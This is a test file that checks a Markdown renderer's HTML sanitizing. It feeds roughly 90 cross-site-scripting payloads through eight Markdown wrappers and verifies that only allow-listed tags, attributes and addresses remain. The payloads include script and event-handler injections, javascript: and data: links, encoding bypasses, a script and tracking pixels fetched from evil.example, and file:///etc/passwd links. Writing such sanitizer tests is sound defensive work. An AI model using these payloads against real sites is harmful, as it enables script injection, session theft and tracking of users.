import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../../worker/platform/markdown'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img src=`x` onerror=alert(1)//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="position:fixed" class="modal" id="login">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="x" onclick="alert(1)" target="_blank">x</a>',
  '<a id=x name=y href=//evil.example>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x contenteditable onblur=alert(1)>x</x>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61;vascript&colon;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  'javascript:alert(1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: <javascript:alert(1)> "t"\n\n[x][x]',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](http://evil.example/pixel.gif)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](javascript:alert(1))',
  '![x](/img/../../etc/passwd)',
  '![x](/img/1-aaaaaaaaaaaaaaaaaaaaaaaaaa-1x1.svg)',
  '![x](/api/session)',
  '![x](/img/1-aaaaaaaaaaaaaaaaaaaaaaaaaa-1x1.jpg"onerror="alert(1))',
  '![x" onerror="alert(1)](/img/1-aaaaaaaaaaaaaaaaaaaaaaaaaa-640x480.jpg)',
  '![x](/img/1-aaaaaaaaaaaaaaaaaaaaaaaaaa-640x480.jpg "t\\" onerror=\\"alert(1)")',
  '![x][y]\n\n[y]: https://evil.example/p.gif',
  '[![x](https://evil.example/p.gif)](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '```"onload="alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '<a href="https://ok.example">x</a>',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y',
  '| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| [x](javascript:alert(1)) | d |',
  '- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  'www.evil.example/"onmouseover="alert(1)',
  'https://evil.example/<script>alert(1)</script>',
  'a@b.example"onclick="alert(1)',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
]

const WRAPPERS: [name: string, wrap: (payload: string) => string][] = [
  ['alone', (payload) => payload],
  ['in a quote', (payload) => payload.replace(/^/gm, '> ')],
  ['in a list', (payload) => `1. one\n2. ${payload.replaceAll('\n', '\n   ')}`],
  ['in emphasis', (payload) => `text **${payload}** and ~~${payload}~~`],
  ['in a heading', (payload) => `# ${payload}`],
  ['in a link text', (payload) => `[${payload}](https://ok.example)`],
  ['after an open tag', (payload) => `<div><p title="${payload}`],
  ['repeated', (payload) => `${payload}${payload}\n\n${payload}`],
]

const ELEMENTS = new Set(
  'p br strong em del a ul ol li blockquote code pre hr h2 h3 h4 table thead tbody tr th td img input'.split(' '),
)
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height', 'loading', 'decoding'],
  ol: ['start'],
  th: ['align'],
  td: ['align'],
  input: ['type', 'checked', 'disabled'],
}
const OWN_PICTURE = /^\/img\/\d+-[a-z0-9]{26}-\d+x\d+\.(jpg|png|webp|gif)(\?w=\d+)?$/

interface SeenElement {
  name: string
  attributes: [name: string, value: string][]
}

/** What a parser of HTML (not of ours) sees in it. */
async function elementsOf(html: string): Promise<SeenElement[]> {
  const elements: SeenElement[] = []
  const rewriter = new HTMLRewriter().on('*', {
    element({ tagName, attributes }) {
      // The type is the page's NamedNodeMap, the value the runtime's iterable of pairs.
      const pairs = attributes as unknown as Iterable<[string, string]>
      elements.push({ name: tagName, attributes: [...pairs] })
    },
  })
  await rewriter.transform(new Response(html)).text()
  return elements
}

function isSafeLink(href: string): boolean {
  const url = new URL(href.replaceAll('&#x26;', '&').replaceAll('&amp;', '&'), 'https://moraine.example/tour/1/2')
  return ['http:', 'https:', 'mailto:'].includes(url.protocol)
}

function faultsOf({ name, attributes }: SeenElement): string[] {
  const faults = ELEMENTS.has(name) ? [] : [`<${name}>`]
  for (const [attribute, value] of attributes) {
    if (!ATTRIBUTES[name]?.includes(attribute)) faults.push(`${name}[${attribute}]`)
    if (attribute === 'href' && !isSafeLink(value)) faults.push(`href ${value}`)
    if (attribute === 'src' && !OWN_PICTURE.test(value)) faults.push(`src ${value}`)
  }
  const link = Object.fromEntries(attributes)
  if (name === 'a' && link['href'] !== undefined) {
    const isOwn = new URL(link['href'], 'https://moraine.example/tour/1/2').origin === 'https://moraine.example'
    if (!isOwn && !/nofollow.*ugc.*noopener/.test(link['rel'] ?? '')) faults.push(`rel of ${link['href']}`)
  }
  return faults
}

describe.each(WRAPPERS)('hostile Markdown %s', (_, wrap) => {
  it.each(PAYLOADS)('leaves only allowed elements, attributes and addresses: %j', async (payload) => {
    const elements = await elementsOf(renderMarkdown(wrap(payload)))
    expect(elements.flatMap(faultsOf)).toEqual([])
  })
})

it('would notice what it looks for', async () => {
  const html = '<img src=x onerror=alert(1)><a href="javascript:x" id=y>z</a><script>1</script>'
  const faults = (await elementsOf(html)).flatMap(faultsOf)
  expect(faults.toSorted((a, b) => (a < b ? -1 : 1))).toEqual([
    '<script>',
    'a[id]',
    'href javascript:x',
    'img[onerror]',
    'rel of javascript:x',
    'src x',
  ])
})

it('is not stopped by deep nesting or length', () => {
  for (const text of [
    '> '.repeat(500) + 'x',
    '['.repeat(2000),
    '*a '.repeat(2000),
    '<'.repeat(5000),
    '- '.repeat(300) + 'x',
  ])
    expect(typeof renderMarkdown(text)).toBe('string')
})

it('leaves ranges as Koreans and Chinese write them, and strikes through between two tildes only', () => {
  expect(renderMarkdown('5~6월과 **9월 중순~10월 중순**, 4~6월')).toBe(
    '<p>5~6월과 <strong>9월 중순~10월 중순</strong>, 4~6월</p>',
  )
  expect(renderMarkdown('~~품절~~')).toBe('<p><del>품절</del></p>')
})

it('keeps what members need', () => {
  const html = renderMarkdown(
    '# T\n\n**b** *i* ~~s~~ [l](https://ok.example)\n\n- a\n\n> q\n\n![lake](/img/1-aaaaaaaaaaaaaaaaaaaaaaaaaa-640x480.jpg)',
  )
  expect(html).toContain('<h2>T</h2>')
  expect(html).toContain('<strong>b</strong> <em>i</em> <del>s</del>')
  expect(html).toContain('<a href="https://ok.example" rel="nofollow ugc noopener">l</a>')
  expect(html).toContain('width="640" height="480" loading="lazy"')
})
